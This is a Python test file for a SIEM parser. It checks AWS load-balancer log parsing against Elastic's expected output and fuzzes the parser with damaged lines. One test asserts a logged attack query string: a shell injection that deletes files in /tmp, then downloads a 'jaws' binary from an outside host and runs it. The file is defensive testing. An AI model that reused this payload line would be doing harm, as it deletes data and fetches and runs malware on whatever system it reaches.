"""ALB/NLB/ELB parsing against Elastic's oracle, plus the edge cases the oracle does not cover."""

from __future__ import annotations

import pytest
from _property_cases import FUZZ, assert_well_formed, parse_bytes
from hypothesis import given
from hypothesis import strategies as st
from oracle import assert_fields, expected, parse_file, sample

from siem.normalize import valid_ip

ORACLE_FIELDS = [
    "@timestamp",
    "source.ip",
    "source.port",
    "http.response.status_code",
    "http.request.method",
    "http.version",
    "url.original",
    "url.path",
    "url.query",
    "url.scheme",
    "url.port",
    "user_agent.original",
    "event.outcome",
    "trace.id",
]


def test_alb_matches_elastic_oracle() -> None:
    events, letters = parse_file(sample("alb/test-alb.log"))
    oracle = expected(sample("alb/test-alb.log-expected.json"))
    assert not letters
    assert len(events) == len(oracle) == 10
    for i, (ours, theirs) in enumerate(zip(events, oracle, strict=True)):
        fields = ORACLE_FIELDS
        if "source" not in theirs:  # connection logs: we keep source.* and the mTLS outcome, Elastic does not
            fields = [f for f in ORACLE_FIELDS if not f.startswith("source.") and f != "event.outcome"]
        assert_fields(ours, theirs, fields, label=f"line {i}")
        assert ours["event"]["dataset"] == "aws.alb"


def test_alb_https_ipv6_and_target() -> None:
    events, letters = parse_file(sample("alb/alb_al_valid_logs.log"))
    assert not letters and len(events) == 2
    v6 = events[1]
    assert v6["source"] == {"ip": "fe80::202:b3ff:fe1e:8329", "address": "fe80::202:b3ff:fe1e:8329", "port": 443}
    assert v6["destination"]["ip"] == "2001:db8::1"
    assert v6["related"]["ip"] == ["fe80::202:b3ff:fe1e:8329", "2001:db8::1"]
    assert v6["tls"]["version"] == "1.2"
    assert v6["aws"]["elb"]["conn_trace_id"] == "TID_1234abcd5678ef90"


def test_alb_url_with_space_and_waf_classification() -> None:
    events, _ = parse_file(sample("alb/test-alb.log"))
    attack = events[1]
    assert attack["url"]["path"] == "/shell"
    assert attack["url"]["query"] == "cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws"
    assert attack["aws"]["elb"]["classification"] == "Acceptable"
    assert attack["aws"]["elb"]["classification_reason"] == "SpaceInUri"
    assert attack["aws"]["elb"]["redirect_url"].startswith("https://127.0.0.1:443/shell")


def test_classic_elb_line(tmp_path) -> None:
    line = (
        "2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000073 0.001048 "
        '0.000057 200 200 0 29 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.38.0" - -\n'
    )
    f = tmp_path / "elb.log"
    f.write_text(line)
    events, letters = parse_file(f, "aws.alb")
    assert not letters
    assert events[0]["aws"]["elb"]["type"] == "classic"
    assert events[0]["source"]["ip"] == "192.168.131.39"
    assert events[0]["http"]["request"]["method"] == "GET"


@pytest.mark.parametrize("garbage", ["http not-a-time x", "http", "tls 2.0 short"])
def test_garbage_line_is_dead_lettered_with_position(tmp_path, garbage: str) -> None:
    good = sample("alb/alb_al_valid_logs.log").read_text().splitlines()[0]
    f = tmp_path / "mixed.log"
    f.write_text(f"{good}\n{garbage}\n{good}\n")
    events, letters = parse_file(f, "aws.alb")
    assert len(events) == 2
    assert len(letters) == 1
    assert letters[0].offset == len(good) + 1
    assert letters[0].stage == "map" and letters[0].reason
    assert letters[0].raw == garbage


# --- hostile input --------------------------------------------------------------------------

_LINES = (
    sample("alb/test-alb.log").read_bytes().splitlines() + sample("alb/alb_al_valid_logs.log").read_bytes().splitlines()
)


@FUZZ
@given(
    line=st.sampled_from(_LINES),
    cut=st.integers(0, 600),
    noise=st.binary(max_size=40),
    at=st.integers(0, 600),
    huge=st.booleans(),
)
def test_damaged_lines_never_escape_and_never_lose_neighbours(
    line: bytes, cut: int, noise: bytes, at: int, huge: bool
) -> None:
    damaged = (line[:cut] + noise + line[cut:][at:]).replace(b"\n", b" ")
    if huge:
        damaged = damaged.replace(b'"curl/', b'"' + b"A" * 300_000 + b"curl/", 1)
    good = _LINES[0]
    events, letters = parse_bytes(b"\n".join([good, damaged, good]) + b"\n", "aws.alb")
    assert_well_formed(events, letters, "aws.alb")
    # both intact neighbours survive; the damaged line is an event or a dead letter (blank lines are no record)
    blank = not damaged.rstrip(b"\r").strip()
    assert len(events) + len(letters) == (2 if blank else 3)
    offsets = {e["log"]["offset"] for e in events}
    assert {0, len(good) + len(damaged) + 2} <= offsets
    for doc in events:
        for part in ("source", "destination"):
            if part in doc and "ip" in doc[part]:
                assert valid_ip(doc[part]["ip"]) == doc[part]["ip"]
